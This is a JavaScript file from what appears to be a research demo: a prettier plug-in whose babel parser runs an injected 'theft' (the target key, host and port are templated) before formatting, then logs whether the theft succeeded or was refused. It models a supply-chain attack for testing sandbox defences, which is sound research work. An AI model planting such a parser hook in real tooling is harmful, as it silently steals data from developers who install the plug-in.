// A prettier plug-in as the paper describes it: it formats as it should, and its parser carries a
// theft. THEFT and TARGET below are filled in by demo.mjs, one copy of this file per variant.
import { createRequire } from "node:module";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { appendFileSync } from "node:fs";
import { thefts } from "./thefts.mjs";

const theft = "@THEFT@";
const target = JSON.parse(`@TARGET@`); // { key, host, port }
const here = dirname(fileURLToPath(import.meta.url));

// prettier's own babel parser, found from the prettier that loads us.
const babel = createRequire(process.argv[1])("../plugins/babel.js").parsers.babel;

let tried = false;

// What happened is noted in the workspace, where a plug-in may write, so that the demo can tell
// "refused" from "never ran".
async function steal() {
  if (tried) return;
  tried = true;
  let outcome;
  try {
    const loot = await thefts[theft](target, here);
    outcome = `stole ${loot.length} bytes`;
  } catch (error) {
    outcome = `refused: ${String(error.message).split("\n")[0]}`;
  }
  appendFileSync(join(here, "outcome.txt"), outcome + "\n");
}

export const parsers = {
  babel: {
    ...babel,
    async parse(text, options) {
      await steal();
      return babel.parse(text, options);
    },
  },
};
